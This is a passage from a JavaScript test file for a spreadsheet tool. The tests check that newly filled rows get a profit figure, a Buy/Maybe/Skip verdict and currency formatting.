    sheet.grid.protect({ sheetId: sheet.id, rectangle });
    Object.assign(sheet.document, { editors: [other] });
    const contents = offers(1);
    sheet.people({ do: 'edit', sheetId: sheet.id, row: 6, column: 1, contents });
    const sent = await world.rpc('list.fillInNewRows', {}, other);
    expect(granted(sent)).toMatchObject({ filled: 1 });
    const { 'My profit': profit, Verdict: word } = sheet.decision(6);
    expect([typeof profit, word]).toEqual(['number', '']);
  });

  it.each([
    ['in the run that asks for them', 4],
    ['where they are filled in and nothing is asked', 0],
  ])('are decided on %s', async (_when, from) => {
    const { world, sheet } = await desk([HEADERS, ...offers(4)]);
    const contents = offers(6).slice(from, from + 2);
    sheet.people({ do: 'edit', sheetId: sheet.id, row: 6, column: 1, contents });
    if (from > 0) await analyze(world, { fields: FIELDS, rows: { kind: 'empty' } });
    else expect(granted(await world.rpc('list.fillInNewRows'))).toEqual({ filled: 2, kept: 0 });
    for (const row of [6, 7]) {
      expect(sheet.decision(row).Verdict).toMatch(/^(Buy|Maybe|Skip)$/);
      expect(sheet.grid.numberFormats(sheet.id, areaOf(row, columnOf(made, 'myProfit')))).toEqual([
        ['[$$]#,##0.00'],
      ]);
    }
  });
});
